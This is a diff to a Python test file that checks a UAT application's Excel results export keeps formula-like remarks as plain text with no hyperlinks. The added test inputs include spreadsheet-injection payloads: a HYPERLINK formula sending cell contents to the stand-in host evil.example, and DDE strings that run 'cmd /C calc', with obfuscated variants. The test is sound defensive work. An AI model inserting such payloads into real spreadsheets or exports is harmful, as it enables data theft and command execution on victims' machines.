@@ -20,7 +20,10 @@ from uatapp.runs import service as runs
 from uatapp.runs.states import StepAnswer
 
 URL = "/projects/PAY/results.xlsx"
-FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://evil.example")', "{=1}", "http://evil.example"]
+FORMULAS = [
+    "=1+1", "+1", "-1", "-5", "@SUM(A1)", '=HYPERLINK("http://evil.example?"&A1,"x")', "{=1}", "http://evil.example",
+    "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\uff1d1+1", ";=1+1", "a\n=1", '"\n=1"', "a\t=1", "=1\x0b=2",
+]  # fmt: skip
 
 
 def book(world: World, query: str = "", who: str = "manager") -> bytes:
@@ -98,13 +101,14 @@ def test_one_cycle_can_be_taken_alone(site: World) -> None:
     assert site.client("manager").get(URL + "?cycle=9").status_code == 404
 
 
+@pytest.mark.proves("T28")
 @pytest.mark.parametrize("text", FORMULAS)
 def test_what_looks_like_a_formula_stays_text(site: World, text: str) -> None:
     flow.open_cycle(site, flow.make_cases(site, 1))
     flow.run(site, flow.assignments(site)[0], remark=text)
     data = book(site)
     cells = [c for s in openpyxl.load_workbook(BytesIO(data)).worksheets for row in s.iter_rows() for c in row]
-    same = [cell for cell in cells if cell.value == text]
+    same = [cell for cell in cells if cell.value == text.replace("\x0b", " ")]
     assert same
     assert {cell.data_type for cell in same} == {"s"}
     assert not any(cell.hyperlink for cell in cells)
